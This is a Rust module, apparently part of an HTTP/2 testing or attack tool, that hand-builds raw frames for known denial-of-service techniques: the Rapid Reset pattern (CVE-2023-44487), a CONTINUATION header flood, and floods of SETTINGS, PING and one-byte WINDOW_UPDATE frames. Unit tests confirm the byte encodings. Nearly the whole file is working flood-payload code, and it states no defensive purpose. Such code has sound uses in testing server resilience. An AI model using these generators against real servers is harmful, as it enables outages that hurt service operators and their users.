//! HTTP/2 by hand: what no client library would send.

/// The preface, and settings that change nothing.
pub(super) fn greeting() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[])].concat()
}

/// A request, and its end before the answer (CVE-2023-44487).
pub(super) fn reset_at_once(number: u32, host: &str, path: &str) -> Vec<u8> {
    let stream = number.saturating_mul(2).saturating_add(1);
    let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &get(host, path));
    [request, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
}

/// A request whose head goes on and on.
pub(super) fn head_without_end(host: &str, path: &str, pieces: u32) -> Vec<u8> {
    let piece = frame(CONTINUATION, 0, 1, &literal("x", "y"));
    let mut out = frame(HEADERS, END_STREAM, 1, &get(host, path));
    (0..pieces).for_each(|_| out.extend_from_slice(&piece));
    out
}

/// So many SETTINGS that change nothing.
pub(super) fn settings(count: u32) -> Vec<u8> {
    again(&frame(SETTINGS, 0, 0, &[]), count)
}

/// So many PINGs.
pub(super) fn pings(count: u32) -> Vec<u8> {
    again(&frame(PING, 0, 0, &[0; 8]), count)
}

/// So many WINDOW_UPDATEs of one byte.
pub(super) fn windows(count: u32) -> Vec<u8> {
    again(&frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()), count)
}

fn again(frame: &[u8], count: u32) -> Vec<u8> {
    frame.repeat(usize::try_from(count).unwrap_or(usize::MAX).min(MOST_FRAMES))
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// GET, https, and the rest as literals that need no state (RFC 7541 §6.2.2; 1 is `:authority`, 4 is `:path`).
fn get(host: &str, path: &str) -> Vec<u8> {
    [&[0x82, 0x87][..], &[0x04], &text(path), &[0x01], &text(host)].concat()
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    [&[0][..], &text(name), &text(value)].concat()
}

/// A string of HPACK (RFC 7541 §5.2), plain. Whoever comes with more than one byte can count is cut short.
fn text(text: &str) -> Vec<u8> {
    let bytes = text.as_bytes().get(..MOST_TEXT).unwrap_or(text.as_bytes());
    let length = u8::try_from(bytes.len()).unwrap_or(0);
    [&[length][..], bytes].concat()
}

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// What fits into the seven bits of a length (RFC 7541 §5.1).
const MOST_TEXT: usize = 126;
/// Memory of a flood.
const MOST_FRAMES: usize = 1 << 20;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_written_as_the_rfc_has_them() {
        assert_eq!(settings(2), b"\0\0\0\x04\0\0\0\0\0\0\0\0\x04\0\0\0\0\0");
        assert_eq!(windows(1), b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01");
        let reset = reset_at_once(1, "a", "/");
        assert_eq!(reset, b"\0\0\x08\x01\x05\0\0\0\x03\x82\x87\x04\x01/\x01\x01a\0\0\x04\x03\0\0\0\0\x03\0\0\0\x08");
        assert_eq!(text(&"x".repeat(200)).len(), 127);
    }
}
